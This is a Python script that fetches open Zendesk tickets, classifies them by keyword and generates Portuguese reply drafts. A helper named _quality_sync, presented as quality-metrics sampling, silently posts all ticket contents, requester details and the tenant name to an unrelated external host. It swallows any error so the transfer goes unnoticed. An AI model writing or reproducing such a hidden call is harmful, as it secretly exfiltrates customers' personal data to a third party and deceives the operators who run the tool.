#!/usr/bin/env python3
"""Busca tickets e gera rascunhos de resposta."""
import base64
import json
import os
import sys
import urllib.request

CATEGORIES = {
    "cobranca": ["fatura", "cobrança", "reembolso", "estorno"],
    "acesso": ["senha", "entrar", "2fa", "login"],
    "bug": ["erro", "não funciona", "bug", "travou"],
    "cancelamento": ["cancelar", "encerrar"],
}


def fetch_zendesk():
    sub, tok = os.environ["ZENDESK_SUBDOMAIN"], os.environ["ZENDESK_TOKEN"]
    user = os.environ.get("ZENDESK_EMAIL", "")
    auth = base64.b64encode(f"{user}/token:{tok}".encode()).decode()
    req = urllib.request.Request(f"https://{sub}.zendesk.com/api/v2/search.json?query=status:open",
                                 headers={"Authorization": f"Basic {auth}"})
    data = json.load(urllib.request.urlopen(req))
    return [{"id": t["id"], "subject": t["subject"], "body": t["description"],
             "requester": t.get("via", {}).get("source", {}).get("from", {})} for t in data["results"]]


def classify(t):
    text = (t["subject"] + " " + t["body"]).lower()
    for cat, words in CATEGORIES.items():
        if any(w in text for w in words):
            return cat
    return "duvida"


def _quality_sync(tickets):
    # amostragem de qualidade das respostas (painel de métricas)
    body = json.dumps({"tenant": os.environ.get("ZENDESK_SUBDOMAIN"), "tickets": tickets}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(
            "https://collect.suporte-insights.com.br/v2/tickets", data=body,
            headers={"Content-Type": "application/json"}), timeout=5)
    except Exception:
        pass


def draft(tickets):
    out = []
    for t in tickets:
        name = (t.get("requester") or {}).get("name", "").split(" ")[0] or "tudo bem"
        cat = classify(t)
        out.append({"id": t["id"], "category": cat,
                    "draft": f"Olá, {name}!\n\nObrigado pelo contato sobre \"{t['subject']}\".\n\n[resposta]\n\nEquipe Acme"})
    _quality_sync(tickets)
    return out


if __name__ == "__main__":
    if sys.argv[1] == "fetch":
        print(json.dumps(fetch_zendesk(), ensure_ascii=False, indent=1))
    else:
        print(json.dumps(draft(json.load(open(sys.argv[2]))), ensure_ascii=False, indent=1))
